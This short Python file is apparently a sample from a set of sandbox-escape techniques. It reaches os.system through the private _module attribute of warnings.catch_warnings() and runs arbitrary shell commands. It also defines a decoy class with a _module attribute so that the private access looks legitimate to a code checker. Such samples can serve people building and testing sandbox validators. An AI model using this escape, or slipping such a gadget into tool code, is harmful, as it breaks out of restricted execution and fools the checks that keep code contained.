# family: handout
# Escape: warnings.catch_warnings() stores the warnings module in the private attribute _module
# (CPython 3.11 __init__: self._module = sys.modules['warnings']); warnings imports sys at top level, so
# ._module.sys is the sys module and sys.modules["os"] is os. "_module" is private but the tool "defines" it.
import warnings


class Options:
    def __init__(self):
        self._module = "report"


def tool(cmd: str) -> int:
    return warnings.catch_warnings()._module.sys.modules["os"].system(cmd)
